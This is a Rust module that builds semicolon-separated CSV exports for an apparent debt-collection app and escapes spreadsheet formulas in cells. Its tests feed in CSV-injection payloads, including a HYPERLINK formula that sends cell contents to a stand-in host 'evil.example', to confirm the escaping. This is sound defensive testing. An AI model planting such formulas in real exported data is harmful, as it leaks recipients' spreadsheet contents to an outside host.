//! Downloads for the creditor (`;`-separated, UTF-8 with a byte order mark so that spreadsheets
//! read the umlauts, amounts with a decimal comma): the overview's cases, exactly the rows the
//! page's filter selects, and a remittance report's payments.

use app::domain::Language;
use app::dto::OverviewRow;

/// A cell that a spreadsheet would run as a formula is written as text. Every CSV Rapport writes
/// goes through here: debtors edit their own address, creditors hand over names and subjects.
pub fn cell(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_string()
    }
}

/// A `;`-separated UTF-8 file with a byte order mark (German Excel opens it as it is), every cell
/// neutralised by [`cell`]: the mail-merge files of letters and access data.
pub fn mail_merge_csv<'a>(
    header: &[&str],
    rows: impl Iterator<Item = Vec<&'a str>>,
) -> Result<Vec<u8>, csv::Error> {
    let mut out = b"\xef\xbb\xbf".to_vec();
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(&mut out);
    writer.write_record(header)?;
    for row in rows {
        writer.write_record(row.iter().map(|v| cell(v)))?;
    }
    writer.flush()?;
    drop(writer);
    Ok(out)
}

/// Creates `path` for a file full of secrets or personal data (access codes, letters, backups):
/// readable and writable by its owner only, and never over an existing file.
pub fn private_file(path: &std::path::Path) -> std::io::Result<std::fs::File> {
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.mode(0o600);
    }
    options.open(path)
}

/// The rows as CSV: codes for machines (state, class key) and the state in words for people.
pub fn overview_csv(rows: &[OverviewRow]) -> Result<Vec<u8>, csv::Error> {
    let mut out = b"\xef\xbb\xbf".to_vec();
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(&mut out);
    writer.write_record([
        "reference",
        "customer_number",
        "debtor_name",
        "treatment_class",
        "state",
        "state_text",
        "handed_over_eur",
        "paid_eur",
        "handed_over_on",
    ])?;
    let lang = Language::De;
    for r in rows {
        let class = r.class_key.clone().unwrap_or_default();
        let state_text = (app::i18n::staff_tr(lang).state_label)(&r.state);
        let date = chrono::DateTime::from_timestamp_millis(r.handed_over_ms)
            .map(|t| t.date_naive().format("%Y-%m-%d").to_string())
            .unwrap_or_default();
        writer.write_record([
            cell(&r.reference),
            cell(&r.customer_number),
            cell(&r.debtor_name),
            cell(&class),
            r.state.clone(),
            state_text.to_string(),
            r.claimed.decimal().replace('.', ","),
            r.paid.decimal().replace('.', ","),
            date,
        ])?;
    }
    writer.flush()?;
    drop(writer);
    Ok(out)
}

/// The retention figures as CSV: one line per breakdown, group and window. Group keys come from
/// the creditor's own data (class keys, reasons), so they are written as text, never formulas.
pub fn retention_csv(report: &app::domain::retention::Report) -> Result<Vec<u8>, csv::Error> {
    let mut out = b"\xef\xbb\xbf".to_vec();
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(&mut out);
    writer.write_record(app::server::retention::CSV_HEADER)?;
    for mut row in app::server::retention::csv_rows(report) {
        row[1] = cell(&row[1]);
        writer.write_record(row)?;
    }
    writer.flush()?;
    drop(writer);
    Ok(out)
}

/// A remittance report as CSV: one line per payment with its allocation, then the totals.
pub fn remittance_csv(
    report: &app::dto::RemittanceView,
    lines: &[app::dto::RemittanceLine],
) -> Result<Vec<u8>, csv::Error> {
    let mut out = b"\xef\xbb\xbf".to_vec();
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(&mut out);
    writer.write_record([
        "period",
        "value_date",
        "reference",
        "customer_number",
        "debtor_name",
        "method",
        "amount_eur",
        "principal_eur",
        "interest_eur",
        "costs_eur",
        "credit_eur",
        "passed_on_eur",
    ])?;
    for l in lines {
        let split = app::domain::remittance::Split {
            principal: l.principal.minor,
            interest: l.interest.minor,
            costs: l.costs.minor,
            credit: l.credit.minor,
        };
        let passed_on = app::domain::Money::new(split.passed_on(), l.amount.currency);
        writer.write_record([
            report.period.clone(),
            l.value_date.format("%Y-%m-%d").to_string(),
            cell(&l.reference),
            cell(l.customer_number.as_deref().unwrap_or_default()),
            cell(&l.debtor_name),
            l.method.clone(),
            l.amount.decimal().replace('.', ","),
            l.principal.decimal().replace('.', ","),
            l.interest.decimal().replace('.', ","),
            l.costs.decimal().replace('.', ","),
            l.credit.decimal().replace('.', ","),
            passed_on.decimal().replace('.', ","),
        ])?;
    }
    writer.write_record([
        report.period.clone(),
        String::new(),
        "total".into(),
        String::new(),
        String::new(),
        String::new(),
        report.collected.decimal().replace('.', ","),
        report.principal.decimal().replace('.', ","),
        report.interest.decimal().replace('.', ","),
        report.costs.decimal().replace('.', ","),
        report.credit.decimal().replace('.', ","),
        report.passed_on.decimal().replace('.', ","),
    ])?;
    drop(writer);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use app::domain::{Currency, Money};

    #[test]
    fn mail_merge_cells_that_a_spreadsheet_would_run_are_written_as_text() {
        let street = r#"=HYPERLINK("https://evil.example/?"&A2,"Hauptstr. 1")"#;
        let csv = mail_merge_csv(
            &["name", "street", "city"],
            [
                vec!["Anna", street, "+49 Köln"],
                vec!["@SUM(A1)", "-1", "\tx"],
            ]
            .into_iter(),
        )
        .expect("written");
        let text = String::from_utf8(csv).expect("UTF-8");
        assert!(text.starts_with('\u{feff}'), "a byte order mark for Excel");
        let rows: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(rows[0], "name;street;city");
        assert!(rows[1].contains(r#"'=HYPERLINK("#), "{}", rows[1]);
        assert!(rows[1].ends_with(";'+49 Köln"), "{}", rows[1]);
        assert!(rows[2].starts_with("'@SUM(A1);'-1;"), "{}", rows[2]);
    }

    #[test]
    fn private_files_are_for_their_owner_only_and_never_replace_one() {
        let dir = tempfile::tempdir().expect("dir");
        let path = dir.path().join("codes.csv");
        private_file(&path).expect("created");
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&path).expect("meta").permissions().mode();
            assert_eq!(mode & 0o777, 0o600);
        }
        assert!(private_file(&path).is_err(), "an existing file stays");
    }

    #[test]
    fn rows_are_written_with_german_amounts_and_no_formulas() {
        let row = OverviewRow {
            case_id: 1,
            debtor_id: 1,
            reference: "AKTE-2026-000101".into(),
            debtor_name: "=HYPERLINK(\"http://evil\")".into(),
            customer_number: "K-1".into(),
            class_key: Some("standard".into()),
            state: "disputed".into(),
            claimed: Money::new(27_223, Currency::EUR),
            paid: Money::new(5, Currency::EUR),
            handed_over_ms: 1_795_000_000_000,
        };
        let csv = String::from_utf8(overview_csv(&[row]).expect("csv")).expect("utf-8");
        let mut lines = csv.trim_start_matches('\u{feff}').lines();
        assert!(lines
            .next()
            .expect("header")
            .starts_with("reference;customer_number"));
        let line = lines.next().expect("row");
        assert!(
            line.contains(";\"'=HYPERLINK(\"\"http://evil\"\")\";"),
            "{line}"
        );
        assert!(line.contains(";272,23;0,05;"), "{line}");
        assert!(line.contains("disputed;"), "{line}");
    }
}
